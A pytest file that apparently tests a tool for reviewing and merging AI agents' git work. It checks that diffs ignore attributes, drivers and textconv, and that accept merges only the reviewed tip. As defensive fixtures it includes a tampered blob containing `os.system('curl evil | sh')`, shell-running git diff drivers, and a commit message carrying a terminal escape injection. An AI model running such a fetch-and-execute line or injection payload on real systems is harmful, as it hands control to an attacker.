"""What was reviewed is what lands: ``diff`` reads the commits with no attribute, driver or textconv of the
task's (or anyone's), and ``accept`` merges the tip the person saw, or names what came since and waits
for a yes."""

from __future__ import annotations

import asyncio
import json
import os
import sys
import zlib
from pathlib import Path
from typing import Any

import pytest

from corral.domain.actors import Actor
from corral.domain.clock import rfc3339
from corral.domain.status import Status
from corral.engine.operations import accept as accepting
from corral.engine.operations import reviewed, tasks
from corral.engine.operations.gates import Caller
from corral.errors import TipMoved
from corral.mcp import tools
from corral.mcp.calling import Args, Calling
from tests.cli.helpers import no_traceback, store_of
from tests.cli.test_cli_turns import fake_env
from tests.conftest import git
from tests.review.test_accept import blocked_with, status_of, work

APP = "print('the reviewed line')\n"


def _agent_commits(files: dict[str, str], message: str = "the agent's work") -> list[dict]:
    steps: list[dict] = [{"init": True}]
    steps += [{"write": {"path": path, "content": content}} for path, content in files.items()]
    return [*steps, {"commit": message}, {"result": "Done."}]


# -- diff reads the objects, never the task's attributes ---------------------------------------------------


def test_an_agents_binary_attribute_does_not_blind_the_diff(corral, repo: Path, tmp_path: Path) -> None:
    env = fake_env(tmp_path, _agent_commits({"app.py": APP, ".gitattributes": "*.py -diff\n"}))
    corral.ok("create", "Blind the review", "--ref", "blind", env=env)
    corral.ok("start", "blind", "--wait", env=env)
    wt = Path(corral.json("show", "blind", env=env)["task"]["worktree"])
    assert "Binary files" in git(wt, "diff", "HEAD~1", "HEAD")  # what git itself shows in the worktree
    shown = corral.json("diff", "blind", env=env)
    assert "Binary files" not in shown["diff"] and "+print('the reviewed line')" in shown["diff"]
    assert "+*.py -diff" in shown["diff"]  # the attribute file itself is shown as a change
    assert "app.py" in corral.ok("diff", "blind", "--stat", env=env).stdout
    # The person's own "-diff" in the main checkout does not hide it either: every file is text here.
    (repo / ".gitattributes").write_text("*.py -diff\n")
    again = corral.json("diff", "blind", env=env)
    assert "Binary files" not in again["diff"] and "+print('the reviewed line')" in again["diff"]


def test_diff_drivers_and_textconv_never_run_in_a_review(corral, repo: Path, tmp_path: Path) -> None:
    textconv, external = tmp_path / "textconv-ran", tmp_path / "external-diff-ran"
    git(repo, "config", "diff.evil.textconv", f"sh -c 'touch {textconv}; echo CONVERTED' --")
    git(repo, "config", "diff.evil.command", f"sh -c 'touch {external}; echo EXTERNAL' --")
    env = fake_env(tmp_path, _agent_commits({"app.py": APP, ".gitattributes": "*.py diff=evil\n"}))
    corral.ok("create", "Drive the review", "--ref", "driven", env=env)
    corral.ok("start", "driven", "--wait", env=env)
    # The same attribute in the person's checkout: a driver the person configured still does not run.
    (repo / ".gitattributes").write_text("*.py diff=evil\n")
    for args in (("diff", "driven", "--json"), ("diff", "driven", "--stat"), ("diff", "driven")):
        result = corral.ok(*args, env=env)
        assert "CONVERTED" not in result.stdout and "EXTERNAL" not in result.stdout
    shown = corral.json("diff", "driven", env=env)
    assert "+print('the reviewed line')" in shown["diff"]
    assert not textconv.exists() and not external.exists()
    wt = Path(corral.json("show", "driven", env=env)["task"]["worktree"])
    git(wt, "diff", "HEAD~1", "HEAD")  # git left to itself in the task's worktree runs both
    assert textconv.exists() or external.exists()


def test_diff_shows_the_committed_objects_and_names_uncommitted_paths_apart(corral, tmp_path: Path) -> None:
    steps = _agent_commits({"app.py": APP})
    steps[-1:-1] = [{"write": {"path": "app.py", "content": "print('only in the worktree')\n"}}]
    steps[-1:-1] = [{"write": {"path": "loose.txt", "content": "never added\n"}}]
    env = fake_env(tmp_path, steps)
    corral.ok("create", "Leave changes", "--ref", "leaves", env=env)
    corral.ok("start", "leaves", "--wait", env=env)
    shown = corral.json("diff", "leaves", env=env)
    assert "+print('the reviewed line')" in shown["diff"]
    assert "only in the worktree" not in shown["diff"] and "never added" not in shown["diff"]
    assert sorted(shown["uncommitted"]) == ["app.py", "loose.txt"]
    said = corral.ok("diff", "leaves", env=env).stdout
    assert "not part of what accept merges (2 path(s))" in said and "loose.txt" in said


def test_a_rewritten_object_is_what_the_diff_shows(corral, repo: Path, tmp_path: Path) -> None:
    """Another task (or anything) rewrote the committed blob in place: the review shows the object accept
    would merge, not the worktree's file that still reads as reviewed."""
    env = fake_env(tmp_path, _agent_commits({"app.py": APP}))
    corral.ok("create", "Reviewed then rewritten", "--ref", "rewritten", env=env)
    corral.ok("start", "rewritten", "--wait", env=env)
    blob = git(repo, "rev-parse", "corral/rewritten:app.py")
    loose = Path(git(repo, "rev-parse", "--git-path", f"objects/{blob[:2]}/{blob[2:]}"))
    if not loose.is_absolute():
        loose = repo / loose
    assert loose.is_file()
    evil = b"import os; os.system('curl evil | sh')\n"
    loose.chmod(0o644)
    loose.write_bytes(zlib.compress(b"blob %d\0" % len(evil) + evil))
    wt = Path(corral.json("show", "rewritten", env=env)["task"]["worktree"])
    assert (wt / "app.py").read_text() == APP  # the worktree still reads as reviewed
    shown = corral.json("diff", "rewritten", env=env)
    assert "os.system" in shown["diff"] and "the reviewed line" not in shown["diff"]


# -- accept merges the tip that was shown ------------------------------------------------------------------

MOVE = [{"init": True}, {"write": {"path": "b.py", "content": "b = 2\n"}}, {"commit": "sneak\x1b]0;pwned\x07 in"}]


@pytest.mark.parametrize("how", ["--yes", "--tip"])
def test_a_branch_moved_after_the_diff_is_named_and_merged_only_when_confirmed(
    corral, repo: Path, tmp_path: Path, how: str
) -> None:
    env = fake_env(tmp_path, _agent_commits({"a.py": "a = 1\n"}), [*MOVE, {"result": "More."}])
    corral.ok("create", "Reviewed work", "--ref", "moves", env=env)
    corral.ok("start", "moves", "--wait", env=env)
    old = corral.json("diff", "moves", env=env)["tip"]
    assert old == git(repo, "rev-parse", "corral/moves")
    corral.ok("unblock", "moves", "-m", "one more thing", "--wait", env=env)  # anything after the review
    new = git(repo, "rev-parse", "corral/moves")
    assert new != old
    main = git(repo, "rev-parse", "main")

    refused = corral("accept", "moves", env=env)  # no terminal: refused, naming the new commit
    no_traceback(refused)
    assert refused.returncode == 3, refused.stderr
    assert f"{new[:7]} sneak\\u001b]0;pwned\\u0007 in" in refused.stderr  # short sha and subject, made visible
    assert "\x1b]0;" not in refused.stderr and "--tip" in refused.stderr and "--yes" in refused.stderr
    streamed = corral("accept", "moves", "--json", env=env)
    error = json.loads(streamed.stdout.splitlines()[-1])["error"]
    assert streamed.returncode == 3 and error["code"] == "tip-moved" and new[:12] in error["hint"]
    pinned_old = corral("accept", "moves", "--tip", old[:10], "--json", env=env)
    assert pinned_old.returncode == 3
    assert json.loads(pinned_old.stdout.splitlines()[-1])["error"]["code"] == "tip-moved"
    assert git(repo, "rev-parse", "main") == main
    assert corral.json("show", "moves", env=env)["task"]["status"] == "blocked"

    given = ["--yes"] if how == "--yes" else ["--tip", new]
    accepted = corral("accept", "moves", *given, env=env)
    assert accepted.returncode == 0, accepted.stderr
    assert git(repo, "show", "main:b.py") == "b = 2" and git(repo, "show", "main:a.py") == "a = 1"
    if how == "--yes":
        assert "made since the diff was shown" in accepted.stderr and "sneak" in accepted.stderr


def test_no_diff_shown_and_an_unmoved_branch_merge_without_a_question(corral, repo: Path, tmp_path: Path) -> None:
    env = fake_env(tmp_path, _agent_commits({"a.py": "a = 1\n"}), _agent_commits({"c.py": "c = 3\n"}))
    corral.ok("create", "Seen", "--ref", "seen", env=env)
    corral.ok("start", "seen", "--wait", env=env)
    corral.ok("diff", "seen", env=env)
    assert corral("accept", "seen", env=env).returncode == 0  # the tip it showed
    corral.ok("create", "Never shown", "--ref", "unseen", env=env)
    corral.ok("start", "unseen", "--wait", env=env)
    assert corral("accept", "unseen", env=env).returncode == 0  # no diff was shown: nothing to compare
    assert git(repo, "show", "main:c.py") == "c = 3"


def test_a_tip_that_is_no_commit_is_a_usage_error(corral, tmp_path: Path) -> None:
    env = fake_env(tmp_path, _agent_commits({"a.py": "a = 1\n"}))
    corral.ok("create", "Pinned badly", "--ref", "badpin", env=env)
    corral.ok("start", "badpin", "--wait", env=env)
    for given in ("main", "zzzz", "0" * 40):
        result = corral("accept", "badpin", "--tip", given, "--json", env=env)
        assert result.returncode == 2 and json.loads(result.stdout)["error"]["code"] == "bad-tip", given
    both = corral("accept", "badpin", "--tip", "abcd", "--yes", env=env)
    assert both.returncode == 2


@pytest.mark.slow
@pytest.mark.parametrize("answer", ["y", "n"])
def test_on_a_terminal_accept_asks_about_the_new_commits(
    corral, repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, answer: str
) -> None:
    from tests.cli.test_pair_terminal import Pty

    env = fake_env(tmp_path, _agent_commits({"a.py": "a = 1\n"}), [*MOVE, {"result": "More."}])
    corral.ok("create", "Asked", "--ref", "asked", env=env)
    corral.ok("start", "asked", "--wait", env=env)
    corral.ok("diff", "asked", env=env)
    corral.ok("unblock", "asked", "-m", "one more thing", "--wait", env=env)
    new = git(repo, "rev-parse", "corral/asked")
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    term = Pty([sys.executable, "-m", "corral", "accept", "asked"], repo)
    term.read_until("Merge these too?")
    term.write(f"{answer}\r".encode())
    code = term.finish()
    shown = term.out.decode("utf-8", "replace")
    assert f"{new[:7]} sneak" in shown and "\x1b]0;pwned" not in shown
    if answer == "y":
        assert code == 0 and git(repo, "show", "main:b.py") == "b = 2"
    else:
        assert code == 3 and "not confirmed" in shown
        assert "b.py" not in git(repo, "ls-tree", "--name-only", "main")


# -- the same refusal at the operation, through MCP, and after a pre-accept turn ---------------------------


def _moved_after_review(proj, agent, ref: str) -> tuple[str, str]:
    blocked_with(proj, agent, ref, work("a.py", "a = 1\n"))
    old = tasks.diff(proj, ref, actor=Actor.HUMAN).tip
    wt = proj.paths.worktree(ref)
    (wt / "b.py").write_text("b = 2\n")
    git(wt, "add", "b.py")
    git(wt, "commit", "-qm", "after the review")
    return old, git(wt, "rev-parse", "HEAD")


def test_the_operation_refuses_without_a_confirmation_and_merges_with_one(proj, agent, repo) -> None:
    old, new = _moved_after_review(proj, agent, "op")
    with pytest.raises(TipMoved) as caught:
        accepting.accept(proj, "op", actor=Actor.HUMAN)
    assert caught.value.exit_code == 3 and caught.value.code == "tip-moved"
    assert caught.value.since == old and caught.value.tip == new
    assert caught.value.commits == [f"{git(repo, 'rev-parse', '--short', new)} after the review"]
    asked: list[reviewed.Moved] = []
    with pytest.raises(accepting.AcceptRefused) as declined:
        accepting.accept(proj, "op", actor=Actor.HUMAN, confirm=lambda m: asked.append(m) or False)
    assert declined.value.code == "not-confirmed" and asked[0].count == 1 and not asked[0].rewritten
    assert status_of(proj, "op") is Status.BLOCKED
    done = accepting.accept(proj, "op", actor=Actor.HUMAN, confirm=lambda m: True)
    assert done.task.status is Status.COMPLETE and git(repo, "show", "main:b.py") == "b = 2"


def test_an_agents_diff_never_stands_for_a_persons_review(proj, agent, repo) -> None:
    old, new = _moved_after_review(proj, agent, "views")
    with proj.store.read() as tx:
        parent_id = tx.task_by_ref("views").id  # any task id: the agent's own
    tasks.diff(proj, "views", actor=Actor.AGENT, caller_task_id=parent_id, surface="mcp")  # sees the new tip
    with pytest.raises(TipMoved):
        accepting.accept(proj, "views", actor=Actor.HUMAN)  # the person's last diff was at the old tip
    with proj.store.read() as tx:
        kept = tx.task_by_ref("views").metadata[reviewed.REVIEWED]
    assert kept["human"]["tip"] == old and kept[f"agent:{parent_id}"]["tip"] == new


def test_mcp_accept_refuses_the_same_way_and_takes_a_tip(proj, agent, repo) -> None:
    old, new = _moved_after_review(proj, agent, "door")
    calling = Calling(project=lambda: proj, caller=Caller(Actor.HUMAN), settles=False)
    accept_tool = tools.TOOLS["accept"]
    assert accept_tool.run is not None and "tip" in accept_tool.schema["properties"]
    with pytest.raises(TipMoved) as caught:
        accept_tool.run(calling, Args("accept", {"task": "door"}))
    assert "after the review" in caught.value.message
    with pytest.raises(TipMoved):
        accept_tool.run(calling, Args("accept", {"task": "door", "tip": old}))
    done = accept_tool.run(calling, Args("accept", {"task": "door", "tip": new}))
    assert done["task"]["status"] == "complete" and git(repo, "show", "main:b.py") == "b = 2"


def test_an_mcp_diff_records_its_tip_and_says_what_is_uncommitted(proj, agent, repo) -> None:
    blocked_with(proj, agent, "mcpdiff", work("a.py", "a = 1\n"))
    (proj.paths.worktree("mcpdiff") / "loose.txt").write_text("x")
    calling = Calling(project=lambda: proj, caller=Caller(Actor.BUILDER), settles=False)
    diff_tool = tools.TOOLS["diff"]
    assert diff_tool.run is not None
    shown = diff_tool.run(calling, Args("diff", {"task": "mcpdiff"}))
    assert shown["uncommitted"] == ["loose.txt"] and "+a = 1" in shown["diff"]
    with proj.store.read() as tx:
        entry = tx.task_by_ref("mcpdiff").metadata[reviewed.REVIEWED]["builder"]
    assert entry["tip"] == shown["tip"] and entry["surface"] == "mcp"


def test_commits_of_the_pre_accept_turn_after_a_review_need_the_same_yes(proj, agent, repo, monkeypatch) -> None:
    monkeypatch.setenv("CORRAL_PRE_ACCEPT_PROMPT", "Last look: commit any fix.")
    from tests.turns.conftest import reopen

    proj = reopen(proj)
    last_fix = [
        {"init": True},
        {"write": {"path": "p.py", "content": "p = 2\n"}},
        {"commit": "last fix"},
        {"result": "Fixed."},
    ]
    nothing = [{"init": True}, {"result": "Nothing to fix."}]
    blocked_with(proj, agent, "pre", work("p.py", "p = 1\n"), last_fix, nothing)
    reviewed_tip = tasks.diff(proj, "pre", actor=Actor.HUMAN).tip
    main = git(repo, "rev-parse", "main")
    with pytest.raises(TipMoved) as caught:
        accepting.accept(proj, "pre", actor=Actor.HUMAN)
    assert caught.value.since == reviewed_tip and caught.value.commits[0].endswith(" last fix")
    assert git(repo, "rev-parse", "main") == main
    with proj.store.read() as tx:
        task = tx.task_by_ref("pre")
    assert task.status is Status.BLOCKED and "accept_in_flight_from" not in task.metadata
    fixed = caught.value.tip
    done = accepting.accept(proj, "pre", actor=Actor.HUMAN, tip=fixed)  # its turn adds nothing this time
    assert done.task.status is Status.COMPLETE and git(repo, "show", "main:p.py") == "p = 2"
    proj.close()


def test_a_pin_refuses_commits_the_pre_accept_turn_adds(proj, agent, repo, monkeypatch) -> None:
    monkeypatch.setenv("CORRAL_PRE_ACCEPT_PROMPT", "Last look: commit any fix.")
    from tests.turns.conftest import reopen

    proj = reopen(proj)
    last_fix = [{"init": True}, {"write": {"path": "q.py", "content": "q\n"}}, {"commit": "one more"}, {"result": "ok"}]
    blocked_with(proj, agent, "prepin", work("p.py", "p = 1\n"), last_fix)
    pin = git(repo, "rev-parse", "corral/prepin")
    with pytest.raises(TipMoved) as caught:
        accepting.accept(proj, "prepin", actor=Actor.HUMAN, tip=pin)
    assert caught.value.commits[0].endswith(" one more") and status_of(proj, "prepin") is Status.BLOCKED
    assert "q.py" not in git(repo, "ls-tree", "--name-only", "main")
    proj.close()


# -- the dashboard and watch -------------------------------------------------------------------------------


def test_the_dashboard_merges_the_tip_its_page_showed(proj, agent, repo) -> None:
    from corral.dashboard import task_actions, task_page
    from corral.dashboard.hub import Hub

    blocked_with(proj, agent, "page", work("a.py", "a = 1\n"))
    old = git(repo, "rev-parse", "corral/page")
    hub = Hub(Path(os.environ["CORRAL_HOME"]))
    state = proj.paths.root.name
    with proj.store.read() as tx:
        task = tx.task_by_ref("page")
    shown = hub.render_diff(state, task.id)
    assert f'id="{task_page.REVIEW_TIP}" name="tip" value="{old}"' in shown and "+a = 1" in shown
    with proj.store.read() as tx:
        entry = tx.get_task(task.id).metadata[reviewed.REVIEWED]["human"]
    assert entry["tip"] == old and entry["surface"] == "dashboard"
    # Recording the tip touched the row: the page's next look at the row as it now is reads no diff again.
    renders: list[str] = []
    real = hub.render_diff

    def counted(state_: str, task_id: str) -> Any:
        renders.append(task_id)
        return real(state_, task_id)

    hub.render_diff = counted  # type: ignore[method-assign]

    async def two_looks() -> None:
        await hub.diff(state, task.id, "before", "blocked")
        with proj.store.read() as tx:
            now = tx.get_task(task.id)
        await hub.diff(state, task.id, rfc3339(now.updated_at), now.status.value)

    asyncio.run(two_looks())
    assert len(renders) == 1
    hub.render_diff = real  # type: ignore[method-assign]
    accept_button = task_page.actions({"task": {"status": "blocked"}}, "p/x/t/y")
    assert f'hx-include="#{task_page.REVIEW_TIP}"' in accept_button

    wt = proj.paths.worktree("page")
    (wt / "b.py").write_text("b = 2\n")
    git(wt, "add", "b.py")
    git(wt, "commit", "-qm", "moved under the page")
    new = git(repo, "rev-parse", "corral/page")
    main = git(repo, "rev-parse", "main")
    for tip in (old, None):  # the page's tip, or none sent (then the person's last diff)
        task_actions.accept(hub, state, task.id, tip, "page")
        error = hub.narration[task.id][-1]
        assert error["event"] == "error" and "moved under the page" in error["message"], error
        assert "Accept again" in error["hint"] and f"--tip {new[:12]}" in error["hint"]
    assert git(repo, "rev-parse", "main") == main and status_of(proj, "page") is Status.BLOCKED
    again = hub.render_diff(state, task.id)  # the page's next look shows what came
    assert f'value="{new}"' in again and "+b = 2" in again
    task_actions.accept(hub, state, task.id, new, "page")
    assert hub.narration[task.id][-1]["event"] == "result", hub.narration[task.id]
    assert git(repo, "show", "main:b.py") == "b = 2"


@pytest.mark.slow
def test_watch_shows_the_diff_and_asks_again_when_the_branch_moved(
    corral, repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import shlex

    from tests.cli.test_watch import Pane

    env = fake_env(tmp_path, _agent_commits({"a.py": "a = 1\n"}))
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    monkeypatch.setenv("GIT_PAGER", "cat")
    corral.ok("create", "Watched", "--ref", "wx")
    corral.ok("start", "wx", "--wait")
    p = Pane(f"{shlex.quote(sys.executable)} -m corral watch; echo EXITED $?; sleep 600", repo)
    try:
        p.shows("Waiting for review (1)", "wx ")
        p.keys("d")  # the task pane, on its diff
        p.shows("+a = 1", " Diff")
        old = git(repo, "rev-parse", "corral/wx")
        with store_of(corral) as store, store.read() as tx:
            assert tx.task_by_ref("wx").metadata[reviewed.REVIEWED]["human"]["tip"] == old  # recorded as shown
        p.keys("Escape")  # the pane closes: the board alone
        p.when(lambda s: "+a = 1" not in s and "Waiting for review (1)" in s, what="the board alone")
        wt = Path(corral.json("show", "wx")["task"]["worktree"])
        (wt / "b.py").write_text("b = 2\n")
        git(wt, "add", "b.py")
        git(wt, "commit", "-qm", "after the watch")
        new = git(repo, "rev-parse", "corral/wx")
        assert new != old
        p.keys("a")
        p.shows("[y/N]")
        p.keys("y")
        p.shows("moved since its diff was shown", "after the watch", "these too? [y/N]")  # the dialog wraps its line
        assert git(repo, "ls-tree", "--name-only", "main").split() == ["README.md"]
        p.keys("y")
        p.shows("wx is complete: merged as")
        assert git(repo, "show", "main:b.py") == "b = 2"
        p.keys("q")
        p.shows("EXITED 0")
    finally:
        p.close()


def test_the_targets_own_commits_merged_in_are_not_named_as_the_tasks(proj, agent, repo) -> None:
    blocked_with(proj, agent, "synced", work("a.py", "a = 1\n"))
    reviewed_tip = tasks.diff(proj, "synced", actor=Actor.HUMAN).tip
    (repo / "main.txt").write_text("on main\n")
    git(repo, "add", "main.txt")
    git(repo, "commit", "-qm", "a commit of the target's")
    wt = proj.paths.worktree("synced")
    git(wt, "merge", "-q", "--no-edit", "-m", "bring main in", "main")
    with pytest.raises(TipMoved) as caught:
        accepting.accept(proj, "synced", actor=Actor.HUMAN)
    assert [c.split(" ", 1)[1] for c in caught.value.commits] == ["bring main in"]
    assert caught.value.since == reviewed_tip
